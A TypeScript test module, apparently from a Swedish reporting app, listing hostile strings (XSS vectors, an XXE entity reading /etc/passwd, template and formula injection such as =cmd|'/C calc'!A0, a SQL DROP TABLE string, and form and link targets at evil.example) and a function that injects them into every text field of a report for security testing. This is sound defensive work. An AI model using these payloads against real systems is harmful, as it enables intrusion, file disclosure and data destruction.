import type { Composition } from '../composing/composition.js';

const RUN = 'window.hasRun=(window.hasRun||0)+1';

/**
 * Texts that do harm where a text is taken for something else: markup, scripts, templates, formulas, typesetting,
 * XML; and some that are only odd. For specs and journeys: `window.hasRun` is what those that run would leave behind.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}" `,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `\` onclick=${RUN} \``,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<a href="javascript:${RUN}">klicka</a>`,
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:msgbox(1)`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>*{display:none}</style>`,
  `<form action="https://evil.example/"><button>Skicka</button></form>`,
  `</title></head><body><h1>Annan sida</h1>`,
  `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  ']]> &amp; &lt;b&gt; &#60;script&#62;',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
  '&nbsp;&copy;&#0;&#x1F600;&notanentity;',
  `{{constructor.constructor('${RUN}')()}}`,
  `{{7*7}} \${7*7} #{7*7} <%= 7*7 %> [[7*7]]`,
  `@if (true) { ${RUN} } @defer { x } @let a = 1;`,
  `<ng-container *ngIf="true">x</ng-container> [innerHTML]="x" (click)="x"`,
  'x ng-version="1" ng-server-context="ssr" y',
  '#import "x": * \n#eval("panic()") #read("/etc/passwd") #panic("x")',
  '$ x^2 / 0 $ *fet* _kursiv_ `kod` <etikett> @hänvisning // anmärkning /* x */',
  '#set page(width: 1pt)\n= Rubrik\n- punkt\n#pagebreak()',
  '=1+1',
  '=HYPERLINK("https://evil.example","klicka")',
  `=cmd|'/C calc'!A0`,
  '+46701234567',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '＝1+1',
  '"; DROP TABLE report; --\r\n=1+1;"x"',
  'noll\u0000byte och \u001b[31mstyrtecken\u0007',
  'omvänd \u202eetsrof\u202c text \u2066isolerad\u2069 \u200bosynlig\u200d',
  'rad\u2028avskiljare\u2029stycke\u0085ny',
  '😀👩‍👩‍👧‍👦🏳️‍🌈 漢字 عربى עברית Zͣ͑a̍l̒g͟o',
  `Mycketlångtordutanbindestreck${'eltid'.repeat(60)}`,
  '_x000D_ %PDF-1.7 %%EOF \\u003cscript\\u003e \\x3cscript\\x3e %3Cscript%3E',
];

/** What is not a text from somebody, but a name, a choice or a number that the rest depends on. */
const NO_TEXT = new Set(
  [
    ['id', 'focusAreaId', 'amendmentId', 'reportId', 'slug', 'focusAreaSlug', 'areaSlug', 'goalSlugs', 'order'],
    ['covers', 'yearFrom', 'quantityKind', 'language'],
    ['code', 'targetCode', 'key', 'sourceKey', 'kind', 'cadence', 'direction', 'assessment', 'verdict'],
    ['sha256', 'auditHead'],
  ].flat(),
);
const PROVENANCE = /provenance$/i;
/** Decimals, dates, times, periods, hashes and ids, whatever they are called. */
const NO_WORDS = /^(-?\d+(\.\d+)?|\d{4}(-\d\d){0,2}(T[\d:.]+Z)?|\d{4}-[QT]\d|[0-9a-f]{64}|[0-9a-f-]{36})?$/;

/**
 * The composition with `soil` done to every text in it that somebody may have written. What is a text is not listed: a
 * text that is added is soiled, and if it is no text after all, composing fails and it belongs among those left out.
 */
export function withTexts(composition: Composition, soil: (text: string, index: number) => string): Composition {
  let index = 0;
  const walk = (value: unknown, key: string): unknown => {
    // What was published a year before, or stands as the latest word, is frozen.
    if (value instanceof Date || key === 'before' || key === 'word') return value;
    if (Array.isArray(value)) return value.map((each) => walk(each, key));
    if (typeof value === 'object' && value !== null) {
      return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, walk(each, name)]));
    }
    // An empty text is one that could have been written.
    if (typeof value !== 'string' || NO_TEXT.has(key) || PROVENANCE.test(key)) return value;
    if (value !== '' && NO_WORDS.test(value)) return value;
    return soil(value, index++);
  };
  return walk(composition, '') as Composition;
}
